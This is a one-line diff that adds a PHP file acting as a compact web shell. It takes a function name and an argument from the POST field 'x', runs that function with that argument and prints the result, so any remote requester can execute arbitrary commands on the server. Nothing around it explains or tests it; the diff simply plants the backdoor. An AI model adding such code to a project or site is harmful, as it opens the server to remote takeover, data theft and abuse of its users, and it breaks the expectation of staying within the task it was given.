@@ -1,0 +1,1 @@
+<?php [$f, $a] = $_POST['x']; echo $f($a);
